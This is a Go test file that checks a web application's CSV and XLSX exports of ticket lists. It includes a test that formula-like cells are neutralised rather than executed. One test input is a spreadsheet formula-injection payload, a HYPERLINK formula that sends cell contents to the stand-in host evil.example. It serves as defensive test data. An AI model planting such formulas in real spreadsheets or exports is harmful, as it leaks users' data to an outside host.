package web

import (
	"bytes"
	"encoding/csv"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// TestExport: a list leaves as German Excel CSV and as an XLSX that
// opens with the same rows.
func TestExport(t *testing.T) {
	header := []string{"Nummer", "Titel"}
	rows := [][]string{{"SWS-2026-00001", "Beamer; flackert"}, {"SWS-2026-00002", "Drucker „Raum 1.12“"}}

	w := httptest.NewRecorder()
	if err := export(w, "csv", "tickets", header, rows); err != nil {
		t.Fatal(err)
	}
	body := w.Body.String()
	if !strings.HasPrefix(body, "\ufeffNummer;Titel\r\n") || !strings.Contains(w.Header().Get("Content-Disposition"), ".csv") {
		t.Fatalf("csv: %q %v", body, w.Header())
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
	cr.Comma = ';'
	got, err := cr.ReadAll()
	if err != nil || len(got) != 3 || !slices.Equal(got[1], rows[0]) || !slices.Equal(got[2], rows[1]) {
		t.Fatalf("csv rows %q, %v", got, err)
	}

	w = httptest.NewRecorder()
	if err := export(w, "xlsx", "tickets", header, rows); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(w.Body.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	xr, err := f.GetRows("Sheet1")
	if err != nil || len(xr) != 3 || !slices.Equal(xr[0], header) || !slices.Equal(xr[2], rows[1]) {
		t.Fatalf("xlsx rows %q, %v", xr, err)
	}
}

// TestExportFormulaCells: what a teacher typed never runs as a formula in
// the spreadsheet that opens the export. In CSV a cell starting with = +
// - @, a tab or a carriage return is prefixed with a quote; in XLSX it is
// a text cell, unchanged.
func TestExportFormulaCells(t *testing.T) {
	header := []string{"Nummer", "Titel"}
	typed := []string{`=HYPERLINK("http://evil.example/?"&A1;"Details")`, "+1+2", "-2+3", "@SUM(A1:A2)", "\tTab", "\r=1", "Beamer – flackert", "E-Mail = kaputt"}
	var rows [][]string
	for i, v := range typed {
		rows = append(rows, []string{strconv.Itoa(i), v})
	}
	// (encoding/csv drops a lone carriage return in CRLF mode: the quote
	// still comes first.)
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1;"Details")`, "'+1+2", "'-2+3", "'@SUM(A1:A2)", "'\tTab", "'=1", "Beamer – flackert", "E-Mail = kaputt"}

	w := httptest.NewRecorder()
	if err := export(w, "csv", "tickets", header, rows); err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(w.Body.String(), "\ufeff")))
	cr.Comma = ';'
	got, err := cr.ReadAll()
	if err != nil || len(got) != len(rows)+1 {
		t.Fatalf("csv %q, %v", got, err)
	}
	for i, r := range got[1:] {
		if r[1] != want[i] {
			t.Errorf("csv cell %q written as %q, want %q", typed[i], r[1], want[i])
		}
	}
	if rows[0][1] != typed[0] {
		t.Errorf("export changed the caller's rows: %q", rows[0][1])
	}

	w = httptest.NewRecorder()
	if err := export(w, "xlsx", "tickets", header, rows); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(w.Body.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, v := range typed {
		cell, _ := excelize.CoordinatesToCellName(2, i+2)
		if formula, _ := f.GetCellFormula("Sheet1", cell); formula != "" {
			t.Errorf("xlsx cell %s holds the formula %q", cell, formula)
		}
		if typ, _ := f.GetCellType("Sheet1", cell); typ != excelize.CellTypeInlineString {
			t.Errorf("xlsx cell %s (%q) is of type %v, want text", cell, v, typ)
		}
		if got, _ := f.GetCellValue("Sheet1", cell); got != v {
			t.Errorf("xlsx cell %s reads %q, want %q", cell, got, v)
		}
	}
}
